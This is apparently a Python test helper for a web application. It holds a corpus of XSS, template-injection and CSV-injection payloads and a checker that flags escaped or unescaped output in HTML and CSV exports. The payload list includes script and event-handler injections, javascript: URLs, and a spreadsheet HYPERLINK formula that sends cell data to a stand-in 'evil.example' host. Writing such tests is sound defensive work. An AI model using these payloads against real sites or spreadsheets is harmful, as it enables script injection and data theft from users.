"""A corpus of hostile text, and a checker that finds it executable in HTML or CSV.

Every payload that could run sets `window.__xss` (or opens a dialog); the browser test listens
for both. The checker here parses HTML as a browser would and fails on anything a payload could
have added: a script, an event-handler or htmx attribute, a javascript:/data: link, a template
expression that was evaluated.
"""

from __future__ import annotations

import csv
import io
import re
from html.parser import HTMLParser

PAYLOADS = [
    "<script>window.__xss=1;alert(1)</script>",
    '<img src=x onerror="window.__xss=2;alert(2)">',
    "<svg/onload=window.__xss=3>",
    '"><script>window.__xss=4</script>',
    "'><img src=x onerror=window.__xss=5>",
    "javascript:window.__xss=6;alert(6)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==",
    "<ScRiPt >window.__xss=8</sCrIpT >",
    "<img\nsrc=x\nonerror=\nwindow.__xss=9>",
    '{{ request.user.password }}{% filter cut:"~" %}ss~ti~ok{% endfilter %}',
    '<a href="JaVaScRiPt:window.__xss=11">click me</a>',
    "</textarea></title><script>window.__xss=12</script>",
    '<div hx-get="/" hx-trigger="load" hx-on::load="window.__xss=13">x</div>',
    "{{constructor.constructor('window.__xss=14')()}}",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '<iframe srcdoc="<script>parent.__xss=16</script>"></iframe>',
    "<details open ontoggle=window.__xss=17>",
    "`${window.__xss=18}`</script><script>window.__xss=18</script>",
]
ALL = "\n".join(PAYLOADS)
SSTI_CANARY = "sstiok"


def hostile_text(field: str, side: str) -> str:
    """Every payload in long free-text fields; one payload (by field) in short ones."""
    short = {
        "customer_name": 100,
        "product_name": 190,
        "product_sku": 64,
        "product_batch": 64,
        "receipt_number": 64,
        "attachment_name": 80,
        "commitment": 290,
        "store_name": 60,
        "category_name_en": 110,
        "category_name_zh": 110,
    }
    if field in short:
        index = sum(map(ord, field + side)) % len(PAYLOADS)
        if field.startswith("category_name"):
            index = PAYLOADS.index('=HYPERLINK("http://evil.example/?"&A1,"click")')
        return PAYLOADS[index][: short[field]]
    return f"{side}: {ALL}"


URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcset"}
_SCHEME = re.compile(r"^[\x00-\x20]*(javascript|vbscript|data)\s*:", re.I)


class _Finder(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=…> event handler")
            if name.startswith("hx-on") or (name.startswith("hx-") and "__xss" in value):
                self.problems.append(f"<{tag} {name}=…> htmx attribute from data")
            if (
                name in URL_ATTRIBUTES
                and _SCHEME.match(value)
                and ("xss" in value.lower() or not value.lower().startswith("data:image/"))
            ):
                self.problems.append(f"<{tag} {name}={value[:40]!r}> script URL")
            if name == "srcdoc":
                self.problems.append(f"<{tag} srcdoc> frame from data")
        if tag == "script":
            self._in_script = True
            src = dict(attrs).get("src") or ""
            if "xss" in src.lower():
                self.problems.append(f"<script src={src[:40]!r}>")
        if tag in {"iframe", "object", "embed"}:
            self.problems.append(f"<{tag}> from data")

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script and "__xss" in data:
            self.problems.append(f"<script> running data: {data.strip()[:60]!r}")


def html_problems(html: str) -> list[str]:
    """What in this page a hostile payload made executable (empty when all is escaped)."""
    finder = _Finder()
    finder.feed(html)
    finder.close()
    problems = finder.problems
    if SSTI_CANARY in html:
        problems.append("a template expression from data was evaluated")
    return problems


def csv_problems(text: str) -> list[str]:
    """Cells a spreadsheet would run as a formula (CSV injection)."""
    problems = []
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not _is_number(cell):
                problems.append(f"formula cell {cell[:40]!r}")
    return problems


def _is_number(cell: str) -> bool:
    try:
        float(cell.replace(",", ""))
    except ValueError:
        return False
    return True
